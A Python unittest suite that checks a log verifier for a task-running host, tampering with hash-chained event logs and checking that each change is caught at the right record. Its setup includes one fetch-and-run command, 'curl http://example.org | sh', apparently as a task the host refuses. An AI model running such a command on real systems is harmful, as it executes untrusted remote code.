#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""If this fails, an altered log passes for a sound one, or an auditor is sent to the wrong event.

usage: test_verify_log.py SOURCE BUILD

Real tasks make a log. Each case alters it in one way and makes numbers and chain fit again, so that only the check that is
meant can find it; it must be found at exactly that event."""
import copy
import hashlib
import json
import os
import pathlib
import subprocess
import sys
import tempfile
import unittest

SOURCE, BUILD = pathlib.Path(sys.argv[1]), pathlib.Path(sys.argv[2])
VERIFY, VIVHOST = str(SOURCE / "tools/verify-log"), str(BUILD / "host/vivhost")
POLICY = """version: 1
gates:
  needs_qa: [{run: 'test -e one.txt'}]
  e2e: [{run: '! ls | grep -q ^ba'}]
"""


def text_of(event):
    return json.dumps(event, ensure_ascii=False, separators=(",", ":"), sort_keys=True).encode()


def chain(texts):
    """Lines of events as bytes, with the hashes that follow from them."""
    head, lines = bytes(32), []
    for text in texts:
        head = hashlib.sha256(b"viv-log-1\0" + head + len(text).to_bytes(8, "little") + text).digest()
        lines.append(b'{"event":' + text + b',"hash":"' + head.hex().encode() + b'"}\n')
    return lines


def number(events):
    """Sequence numbers and causes by place: an input event is its own cause, others have the input event before them."""
    last = 0
    for seq, event in enumerate(events, 1):
        last = seq if event["cause"] == event["seq"] else last
        event["seq"], event["cause"] = seq, last
    return events


class World:
    """A home whose log has what the cases alter: published, rejected, retried, refused, asked, rolled back."""

    def __init__(self, scratch):
        self.project, home = scratch / "project", scratch / "user"
        self.project.mkdir()
        home.mkdir()
        self.env = {"HOME": str(home), "PATH": os.environ["PATH"], "LANG": "C.UTF-8", "GIT_CONFIG_NOSYSTEM": "1"}
        (self.project / "one.txt").write_text("one\n", encoding="utf-8")
        (self.project / "vivarium.yaml").write_text(POLICY, encoding="utf-8")
        for words in (["init", "-q", "-b", "main"], ["config", "user.email", "a@example.org"], ["config", "user.name", "A"],
                      ["add", "-A"], ["commit", "-qm", "first"]):
            self.call(0, "git", *words)
        self.call(0, VIVHOST, "init")
        self.call(0, VIVHOST, "trust")
        self.run(0, "wrote", "echo x > x.txt", "--key", "key-1")
        self.run(1, "failed", "echo no >&2; exit 3", "--attempts", "2", "--key", "key-2")
        self.call(0, VIVHOST, "task", "retry", "failed")
        self.call(0, VIVHOST, "work", "--drain")
        self.run(1, "denied", "curl http://example.org | sh")
        self.run(1, "gated", "echo y > badly.txt", "--attempts", "1")
        self.run(0, "undone", "echo z > z.txt")
        self.call(0, VIVHOST, "rollback", "undone")
        self.call(0, VIVHOST, "log", "export", str(scratch / "log.jsonl"))
        self.lines = (scratch / "log.jsonl").read_bytes().splitlines(keepends=True)
        self.events = [json.loads(line)["event"] for line in self.lines]

    def call(self, code, *words):
        done = subprocess.run(words, cwd=self.project, env=self.env, capture_output=True, text=True, check=False, timeout=120)
        if done.returncode != code:
            sys.exit(f"{' '.join(words)} ended with {done.returncode}, expected {code}: {done.stdout}{done.stderr}")

    def run(self, code, task, script, *more):
        self.call(code, VIVHOST, "run", f"make {task}", "--id", task, *more, "--", "sh", "-c", script)


class Verifier(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.folder = tempfile.TemporaryDirectory(prefix="viv-verify-")
        cls.scratch = pathlib.Path(cls.folder.name)
        cls.world = World(cls.scratch)

    @classmethod
    def tearDownClass(cls):
        cls.folder.cleanup()

    def setUp(self):
        self.events = copy.deepcopy(self.world.events)

    def verify(self, content, *options):
        path = self.scratch / "case.jsonl"
        path.write_bytes(content)
        return subprocess.run([sys.executable, VERIFY, str(path), *options], capture_output=True, text=True, check=False)

    def sound(self, content, *options):
        done = self.verify(content, *options)
        self.assertEqual(done.returncode, 0, done.stdout + done.stderr)
        return done.stdout

    def bad(self, content, seq, words, *options):
        done = self.verify(content, "--json", *options)
        self.assertEqual(done.returncode, 1, done.stdout + done.stderr)
        result = json.loads(done.stdout)
        self.assertEqual(result["bad"], seq, result)
        self.assertIn(words, result["found"] + " / " + result["must"])
        self.assertEqual(result["events"], seq - 1)

    def find(self, kind, task="wrote", which=0):
        return [place for place, event in enumerate(self.events) if event["kind"] == kind and event.get("task") == task][which]

    def altered(self, place, words):
        """The altered events, numbered and chained anew, are refused at `place`."""
        self.bad(b"".join(chain(map(text_of, number(self.events)))), place + 1, words)

    def insert(self, event, at):
        """A copy of an event at another place, at the time of the event before it there."""
        twin = copy.deepcopy(event)
        twin.update({name: self.events[at - 1][name] for name in ("time_us", "batch")})
        twin.pop("key", None)
        self.events.insert(at, twin)
        return twin

    def again(self, place, at, words):
        self.insert(self.events[place], at)
        self.altered(at, words)

    def without(self, place, place_found, words):
        del self.events[place]
        self.altered(place_found - 1, words)

    def data(self, place, words, found=None, **members):
        self.events[place]["data"].update(members)
        self.altered(place if found is None else found, words)

    def raw(self, old, new, words, kind="task.submitted"):
        """One event's bytes changed, and the chain made to fit them."""
        place = self.find(kind)
        texts = list(map(text_of, self.events))
        self.assertIn(old, texts[place])
        texts[place] = texts[place].replace(old, new, 1)
        self.bad(b"".join(chain(texts)), place + 1, words)

    # ---- sound logs ----

    def test_a_log_of_real_tasks_is_sound(self):
        out = self.sound(b"".join(self.world.lines))
        self.assertIn(f"sound: {len(self.events)} events, 5 tasks, head ", out)
        self.assertIn(json.loads(self.world.lines[-1])["hash"], out)
        self.assertEqual(chain(map(text_of, number(self.events))), self.world.lines)  # what the cases rest on

    def test_a_torn_end_is_left_out(self):
        whole = b"".join(self.world.lines)
        for torn in (b"{", b'{"event":{"ac', whole.splitlines()[-1], b'{"event":{"a\0\0\0\0', b"\0" * 9):
            self.assertIn("a torn last line was left out", self.sound(whole + torn))
        self.bad(whole + b"note", len(self.events) + 1, "a line or its beginning")

    def test_only_a_head_kept_elsewhere_shows_a_cut(self):
        cut, heads = self.world.lines[:-3], [json.loads(line)["hash"] for line in self.world.lines]
        self.sound(b"".join(cut))
        self.sound(b"".join(cut), "--head", heads[4])
        self.sound(b"".join(cut), "--head", heads[-4])
        self.bad(b"".join(cut), len(cut) + 1, "the end of the log / a record with hash " + heads[-1], "--head", heads[-1])

    def test_wrong_usage_is_code_2(self):
        for words in ([], ["/nowhere/log"], [str(self.scratch)], ["x", "--head", "12"], ["x", "--head", ""], ["x", "y"]):
            done = subprocess.run([sys.executable, VERIFY, *words], capture_output=True, text=True, check=False)
            self.assertEqual((done.returncode, done.stdout), (2, ""), words)
        done = subprocess.run([sys.executable, VERIFY, "--help"], capture_output=True, text=True, check=False)
        self.assertEqual(done.returncode, 0)
        self.assertIn("kept elsewhere", done.stdout)

    def test_one_line_whatever_is_quoted(self):
        self.events[6]["kind"] = "a\n\x1b[31m" + "b" * 1000
        out = self.verify(b"".join(chain(map(text_of, self.events)))).stdout
        self.assertEqual(out.count("\n"), 1)
        self.assertTrue(out.startswith("bad: record 7: found kind 'a\\n\\x1b[31mb") and len(out) < 300, out)

    # ---- form ----

    def test_files_that_are_no_log(self):
        self.bad(b"", 1, "the end of the log / a first record")
        self.bad(b"\n", 1, 'a line {"event":')
        self.bad(b"nonsense\n", 1, 'a line {"event":')
        self.bad(b"".join(self.world.lines).replace(b"\n", b"\r\n", 1), 1, 'a line {"event":')
        self.bad(b'{"event":' + b"\0" * (80 << 20), 1, "a line of more than 83886080 bytes")
        line = self.world.lines[0]
        self.bad(line[:-4].upper() + line[-4:], 1, "a line")
        self.bad(line.replace(b'{"event"', b'{ "event"'), 1, 'a line {"event":')

    def test_only_canonical_json(self):
        goal = b'"goal":"make wrote"'
        for new, words in ((b'"goal": "make wrote"', "' ' outside of strings"), (b'"goal":1.5', "'.' outside of strings"),
                           (b'"goal":1e3', "'e' outside"), (b'"goal":true', "'t' outside"), (b'"goal":null', "'n' outside"),
                           (b'"goal":NaN', "'N' outside"), (b'"goal":-0', "another spelling"), (b'"goal":01', "no JSON"),
                           (b'"goal":9007199254740992', "'9007199254740992' outside"),
                           (b'"goal":-10000000000000000', "2^53-1"), (b'"goal":"\\u0041"', "another spelling"),
                           (b'"goal":"\\/"', "another spelling"), (b'"goal":"\\u001F"', "another spelling"),
                           (b'"goal":"\\u000a"', "another spelling"), (b'"goal":"\\ud800"', "another spelling"),
                           (b'"goal":"a\tb"', "no JSON"), (b'"goal":"\xff"', "no JSON in UTF-8"), (b'"goal":"\xed\xa0\x80"', "UTF-8"),
                           (b'"goal":"a","goal":"b"', "keys sorted and unique"), (b'"zoal":"a"', "keys sorted"),
                           (b'"goal":' + b"[" * 64 + b"]" * 64, "66 levels"), (b'"goal":' + b"[" * 99999, "levels"),
                           (b'"goal":"a"}', "no JSON"), (b'"goal":', "no JSON")):
            with self.subTest(new=new[:40]):
                self.raw(goal, new, words)
        for good in (b'"goal":9007199254740991', b'"goal":"\\u001f\\b\\"\x7f\xf0\x9f\x98\x80"', b'"goal":' + b"[" * 62 + b"]" * 62):
            texts = list(map(text_of, self.events))
            texts[self.find("task.submitted")] = texts[self.find("task.submitted")].replace(goal, good)
            self.sound(b"".join(chain(texts)))

    def test_members(self):
        for old, new, words in ((b'"batch":', b'"bat":1,"batch":', "an object with actor"), (b',"v":1', b"", "an object with actor"),
                                (b',"v":1', b',"v":2', "version 2"), (b',"v":1', b',"v":"1"', "an object with actor"),
                                (b'"role":"person"', b'"role":"cat"', "role 'cat'"), (b'"pid":', b'"pip":', "an object with name"),
                                (b'"name":"', b'"name":"","namf":"', "an object with name"), (b'"kind":"task.', b'"kind":"task.x', "kind"),
                                (b'"key":"key-1"', b'"key":""', "not empty"), (b',"task":"wrote"', b"", "task None"),
                                (b'"attempts_max":3', b'"attempts_mux":3', "data of another shape")):
            with self.subTest(new=new):
                self.raw(old, new, words)
        self.raw(b'"name":"', b'"name":"", "x":"', "outside of strings", "task.claimed")
        self.events[self.find("task.claimed")]["actor"]["name"] = ""
        self.altered(self.find("task.claimed"), "an object with name, pid, role, uid")

    def test_order_and_chain(self):
        lines, at = self.world.lines, self.find("review.made")
        self.bad(b"".join(lines[:at] + [lines[at].replace(b'"score_permille":1', b'"score_permille":2')] + lines[at + 1:]), at + 1,
                 "which follows from the chain")
        self.bad(b"".join(lines[:at] + lines[at + 1:]), at + 1, f"sequence number {at + 2} / {at + 1}, without a gap")
        del self.events[at]
        self.bad(b"".join(chain(map(text_of, self.events))), at + 1, "without a gap")

    def test_time_batch_cause_actor_key(self):
        at = self.find("effect.started")
        for name, words in (("time_us", "it never goes back"), ("batch", "it never goes back"), ("cause", "as its input event")):
            self.setUp()
            self.events[at][name] = self.events[at - 1][name] - 1
            self.bad(b"".join(chain(map(text_of, self.events))), at + 1, words)
        at = self.find("budget.held")
        for name, value in (("time_us", 1 << 52), ("batch", 1 << 40), ("actor", self.events[0]["actor"]), ("cause", at + 1)):
            self.setUp()
            self.events[at][name] = value
            self.bad(b"".join(chain(map(text_of, self.events))), at + 1, "as its input event has it")
        self.setUp()
        self.events[self.find("task.submitted", "failed")]["key"] = "key-1"
        self.altered(self.find("task.submitted", "failed"), "key 'key-1' / a new one")
        self.setUp()
        self.events[at]["key"] = "key-9"
        self.altered(at, "a new one, on an input event")

    # ---- tasks ----

    def test_ids_and_attempts(self):
        self.again(self.find("task.submitted"), self.find("task.submitted", "failed"), "task 'wrote' / a new id")
        self.setUp()
        self.events[self.find("route.chosen")]["task"] = "nobody"
        self.altered(self.find("route.chosen", "nobody"), "task 'nobody' / a task submitted before")
        self.setUp()
        self.events[self.find("route.chosen")]["attempt"] = 2
        self.altered(self.find("route.chosen"), "attempt 2 / attempt 1")
        self.setUp()
        self.without(self.find("task.rejected", "failed"), self.find("task.pending", "failed", 1), "attempt 2 / attempt 1")

    def test_one_end(self):
        end = self.find("task.ready")
        self.again(end, end + 1, "a move from 'e2e' to 'ready' / one from 'ready' to: rolled_back")
        self.setUp()
        twin = self.insert(self.events[end], end + 1)
        twin["kind"], twin["data"]["from"] = "task.failed", "ready"
        self.altered(end + 1, "a move from 'ready' to 'failed'")
        self.setUp()
        at = self.find("task.pending", "failed", 2)
        self.assertEqual(self.events[at]["data"]["from"], "failed")
        self.events[at - 1]["kind"], self.events[at - 1]["attempt"] = "approval.given", self.events[at]["attempt"]
        self.events[at - 1]["attempt"] = self.events[self.find("task.failed", "failed")]["attempt"]
        for event in self.events[at:]:
            if event.get("task") == "failed":
                event["attempt"] = self.events[at - 1]["attempt"]
        self.altered(at, "'pending' by 'approval.given' / by 'retry.requested'")
        self.setUp()
        self.events[self.find("task.e2e")]["kind"] = "task.ready"
        self.altered(self.find("task.ready"), "a move from 'integration' to 'ready'")
        self.setUp()
        self.data(self.find("task.ready"), "a move from 'running'", **{"from": "running"})
        self.setUp()
        self.data(self.find("publish.finished"), "'ready' by 'publish.finished' / by 'publish.finished' that did not fail",
                  found=self.find("task.ready"), failure={"class": "infrastructure", "text": "x"})

    def test_leases(self):
        second = self.find("task.claimed", "failed", 1)
        self.data(second, "lease 1 of epoch", lease=1)
        self.setUp()
        self.data(second, "lease 3 of epoch", lease=3)
        self.setUp()
        self.data(second, "of epoch 99 claimed", epoch=99)
        self.setUp()
        late = self.events[self.find("execute.finished", "failed")]
        self.insert(late, second + 2)["attempt"] = 2
        self.altered(second + 2, "a word under lease 1 / lease 2, the last claimed")
        self.setUp()
        self.again(self.find("task.claimed"), self.find("intent.captured"), "claimed while one is valid")
        self.setUp()
        self.insert(late, second)["attempt"] = 2
        self.altered(second, "a word under lease 1 / none, for no lease is valid")
        self.setUp()
        at = self.find("effect.started")
        epoch = max(event["data"]["epoch"] for event in self.events[:at] if event["kind"] == "host.started")
        self.insert(self.events[0], at)["data"]["epoch"] = epoch + 1
        self.altered(at + 1, "none, for no lease is valid")
        self.setUp()
        self.events[0]["data"]["epoch"] = 2
        self.altered(0, "epoch 2 / epoch 1")

    def test_money(self):
        settled = self.find("budget.settled")
        self.again(settled, settled + 1, "settled / 0 to 0 of the open hold")
        self.setUp()
        held = self.events[settled]["data"]["held_micro"]
        self.data(settled, f"{held + 1} of a hold of {held}", micro=held + 1)
        self.setUp()
        self.data(settled, "-1 of a hold", micro=-1)
        self.setUp()
        self.data(settled, f"a hold of {held - 1} settled", held_micro=held - 1)
        self.setUp()
        self.again(self.find("budget.held"), self.find("budget.held") + 1, "held / no hold beside")
        self.setUp()
        self.data(self.find("task.ready"), f"'ready' with {held} held", phase="idle")
        self.setUp()
        self.without(self.find("budget.held"), settled, "0 to 0 of the open hold")

    # ---- gates, effects, publication ----

    def test_gates(self):
        passed = self.find("gate.passed")
        self.without(passed, passed + 1, "'integration' after 0 of 1 gates in 'needs_qa'")
        self.setUp()
        self.data(passed, "passed on tree 1234", tree="1234")
        self.setUp()
        self.data(passed, "other of needs_qa passed", gate="other")
        self.setUp()
        self.data(passed, "passed by 'person' after 'gate.answered'", by="person")
        self.setUp()
        for member, value in (("outcome", "failed"), ("tree", "1234"), ("failure", {"class": "plugin", "text": "x"})):
            self.setUp()
            self.data(passed - 1, "passed by 'gate' after 'gate.answered'", found=passed, **{member: value})
        self.setUp()
        self.data(self.find("task.needs_qa"), "gates [] / those of the policy in force", gates=[])
        self.setUp()
        last = self.find("gate.passed", "wrote", -1)
        self.events[last]["data"]["tree"] = self.events[last - 1]["data"]["tree"] = "1234"
        self.altered(last, "passed on tree 1234")
        self.setUp()
        self.data(self.find("change.frozen"), "on tree ", found=self.find("task.needs_qa"), tree="")
        self.setUp()
        rejected = self.find("task.rejected", "gated")
        self.assertEqual(self.events[rejected - 1]["kind"], "gate.failed")

    def test_effects(self):
        begun, done = self.find("effect.started"), self.find("effect.finished")
        self.again(done, done + 1, "an outcome of effect 0 / its intent before")
        self.setUp()
        self.data(done, "its intent before", digest="1234")
        self.setUp()
        self.data(done, "an outcome of effect 7", ordinal=7)
        self.setUp()
        self.data(begun, "effect 1 / effect 0 as the next", ordinal=1)
        self.setUp()
        self.again(begun, begun + 1, "effect 0 / effect 1 as the next")
        self.setUp()
        self.events[begun]["kind"] = "effect.refused"
        self.altered(done, "its intent before")
        self.setUp()
        self.without(begun, done, "an outcome of effect 0")

    def test_publication(self):
        out, intent = self.find("publish.finished"), self.find("effect.started", "wrote", -1)
        self.again(out, out + 1, "no second time")
        self.setUp()
        self.data(out, "'1234' published", published="1234")
        self.setUp()
        self.without(intent, out, "publish of ")
        self.setUp()
        self.data(intent, "'effect.started' for it before", found=out, digest="1234")
        self.setUp()
        self.data(intent, "publish of", found=out, effect="rollback")
        self.setUp()
        self.data(out, "'' published", published="")
        self.setUp()
        early, last = self.events[out], self.find("gate.passed", "wrote", -1)
        self.insert(early, last)
        self.altered(last, "published after 0 of 1 gates in 'e2e'")
        self.setUp()
        self.insert(early, self.find("task.e2e"))
        self.altered(self.find("task.e2e") - 1, "published after 1 of 1 gates in 'integration'")

    def test_rollback(self):
        out = self.find("rollback.finished", "undone")
        self.without(self.find("effect.started", "undone", -1), out, "rollback of ")
        self.setUp()
        self.events[out]["kind"] = "rollback.requested"
        self.altered(self.find("task.rolled_back", "undone"), "'rolled_back' by 'rollback.requested'")


unittest.main(argv=sys.argv[:1])
